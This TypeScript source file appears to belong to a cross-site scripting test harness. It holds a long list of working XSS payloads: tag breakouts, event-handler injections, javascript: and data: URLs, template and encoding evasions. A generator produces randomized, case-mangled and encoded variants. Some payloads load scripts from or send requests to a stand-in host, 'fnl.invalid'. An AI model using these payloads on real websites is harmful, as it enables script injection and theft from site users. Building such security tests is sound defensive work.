import type { Dice } from '../../rehearsal/dice.ts'

/** The function a payload calls, the attribute its elements carry, and the host it contacts. */
export const runner = 'fnlRan'
export const marker = 'data-fnl'
export const foreignHost = 'fnl.invalid'

const run = `${runner}(1)`
const m = marker

/** One of each known kind of payload. */
export const classics: readonly string[] = [
  `<script ${m}>${run}</script>`,
  `</script><script ${m}>${run}</script>`,
  `</title><script ${m}>${run}</script>`,
  `</style><script ${m}>${run}</script>`,
  `</textarea><script ${m}>${run}</script>`,
  `--><script ${m}>${run}</script>`,
  `]]><script ${m}>${run}</script>`,
  `<!--><script ${m}>${run}</script>`,
  `<scr<script>ipt ${m}>${run}</scr</script>ipt>`,
  `<ScRiPt ${m} src=//${foreignHost}/x.js></sCrIpT>`,
  `<script ${m} type=module>import('//${foreignHost}/m.js')</script>`,
  `<img ${m} src=x onerror=${run}>`,
  `"><img ${m} src=x onerror=${run}>`,
  `'><img ${m} src=x onerror=${run}>`,
  `\`><img ${m} src=x onerror=${run}>`,
  `" ${m} autofocus onfocus=${run} x="`,
  `' ${m} autofocus onfocus=${run} x='`,
  `" onmouseover="${run}" style="position:fixed;inset:0" ${m}="`,
  `<svg ${m} onload=${run}>`,
  `<svg ${m}><script>${run}</script></svg>`,
  `<svg ${m}><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg ${m}><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg ${m}><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x"/></svg>`,
  `<math ${m}><mtext><table><mglyph><style><img src onerror=${run}></style></mglyph></table></mtext></math>`,
  `<iframe ${m} srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe ${m} src="javascript:parent.${run}"></iframe>`,
  `<object ${m} data="javascript:${run}"></object>`,
  `<embed ${m} src="//${foreignHost}/x.swf">`,
  `<base ${m} href="//${foreignHost}/">`,
  `<meta ${m} http-equiv=refresh content="0;url=//${foreignHost}/">`,
  `<link ${m} rel=stylesheet href="//${foreignHost}/x.css">`,
  `<link ${m} rel=preload as=script href="//${foreignHost}/x.js">`,
  `<style ${m}>@import '//${foreignHost}/x.css';*{background:url(//${foreignHost}/y)}</style>`,
  `<div ${m} style="background:url(//${foreignHost}/z);position:fixed;inset:0">`,
  `";}body{background:url(//${foreignHost}/c)}/*`,
  `<form ${m} action="javascript:${run}"><button autofocus>`,
  `<button ${m} formaction="javascript:${run}">x</button>`,
  `<input ${m} autofocus onfocus=${run}>`,
  `<details ${m} open ontoggle=${run}>`,
  `<video ${m}><source onerror=${run}></video>`,
  `<audio ${m} src onerror=${run}>`,
  `<body ${m} onload=${run}>`,
  `<marquee ${m} onstart=${run}>`,
  `<dialog ${m} open onclose=${run}><form method=dialog><button autofocus>`,
  `<template ${m}><script>${run}</script></template>`,
  `<div ${m} popover id=p onbeforetoggle=${run}></div>`,
  `<xss ${m} style="animation-name:x" onanimationstart=${run}>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `//${foreignHost}/x`,
  `https://${foreignHost}/x`,
  `/\\${foreignHost}/x`,
  `\\\\${foreignHost}\\x`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{"__html":"<img ${m} src=x onerror=${run}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  `</script><!--<script ${m}>${run}`,
  `\u2028${run}//`,
  `\u2029</script><script ${m}>${run}</script>`,
  `";${run};//`,
  `';${run};//`,
  `\\";${run};//`,
  `\\u003cimg ${m} src=x onerror=${run}\\u003e`,
  `&lt;img ${m} src=x onerror=${run}&gt;`,
  `&#60;img ${m} src=x onerror=${run}&#62;`,
  `%3Cimg%20${m}%20src=x%20onerror=${run}%3E`,
  `\uff1cscript ${m}\uff1e${run}\uff1c/script\uff1e`,
  `\u202e<img ${m} src=x onerror=${run}>`,
  `\u0130<img ${m} src=x onerror=${run}>`,
  `**<img ${m} src=x onerror=${run}>**`,
  `<b ${m} onmouseover=${run}>bold</b>`,
  `[x](javascript:${run})`,
  `mailto:a@b.c?x="><img ${m} src=x onerror=${run}>`,
  `<img ${m} src="//${foreignHost}/pixel.gif">`,
  `__proto__`,
  `constructor`,
]

const breakouts = [
  '',
  '">',
  "'>",
  '`>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '-->',
  '**',
  '</b>',
  '{name}',
  '" ',
  "' ",
  '\\">',
  ']]>',
  '\u200b',
  '&quot;>',
] as const
const tags = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'embed src=x',
  'marquee',
  'a href=x autofocus tabindex=1',
  'button autofocus',
  'select autofocus',
  'textarea autofocus',
  'svg><animate attributeName=x dur=1s',
  'math',
  'style',
  'link rel=stylesheet href=x',
  'track',
  'portal',
  'custom-x tabindex=1 autofocus',
] as const
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onbegin',
  'onanimationstart',
  'onmouseenter',
  'onpointerrawupdate',
  'oncanplay',
  'onscrollend',
  'oncontentvisibilityautostatechange',
] as const
const gaps = [' ', '/', '\t', '\n', '\r', '\f', '\u00a0', '//', ' \u200b '] as const
const quotes = ['', '"', "'", '`'] as const
const calls = [
  run,
  `${runner}\`1\``,
  `window['${runner}'](1)`,
  `self[atob('Zm5sUmFu')](1)`,
  `setTimeout('${run}')`,
  `import('//${foreignHost}/i.js')`,
  `location='//${foreignHost}/'`,
  `fetch('//${foreignHost}/')`,
  '&#102;&#110;&#108;&#82;&#97;&#110;(1)',
  '\\u0066nlRan(1)',
] as const

/** A random payload: a breakout, an element, a handler and a call, with odd spelling. */
export function makePayload(dice: Dice): string {
  if (dice.chance(12)) return dice.oneOf([classics[0] ?? '', ...classics.slice(1)])
  const quote = dice.oneOf(quotes)
  const gap = dice.oneOf(gaps)
  const body = `<${dice.oneOf(tags)}${gap}${m}${gap}${dice.oneOf(handlers)}=${quote}${dice.oneOf(calls)}${quote}>`
  const text = `${dice.oneOf(breakouts)}${body}`
  if (dice.chance(10))
    return text
      .replaceAll(/[a-z]/g, (letter) => (dice.chance(50) ? letter : letter.toUpperCase()))
      .replaceAll(/fnlran/gi, runner)
      .replaceAll(/data-fnl/gi, m)
  if (dice.chance(6)) return encodeURIComponent(text)
  if (dice.chance(6)) return text.replaceAll('<', '&lt;')
  return text
}

/** `count` different payloads: the classics first, then random ones. */
export function manyPayloads(count: number, dice: Dice): readonly string[] {
  const payloads = new Set(classics.slice(0, count))
  while (payloads.size < count) payloads.add(makePayload(dice))
  return [...payloads]
}

/** Puts a number into a payload's attributes and calls, so that a page of many shows which one ran. */
export function numbered(payload: string, number: number): string {
  return payload
    .replaceAll(marker, `${marker}-${number}`)
    .replaceAll('(1)', `(${number})`)
    .replaceAll('`1`', `\`${number}\``)
}

/** The number of the payload that a finding mentions. */
export function payloadNumber(finding: string): number | undefined {
  const [, onElement, inCall] = /data-fnl-(\d+)|script numbered (\d+) ran/.exec(finding) ?? []
  const number = onElement ?? inCall
  return number === undefined ? undefined : Number(number)
}
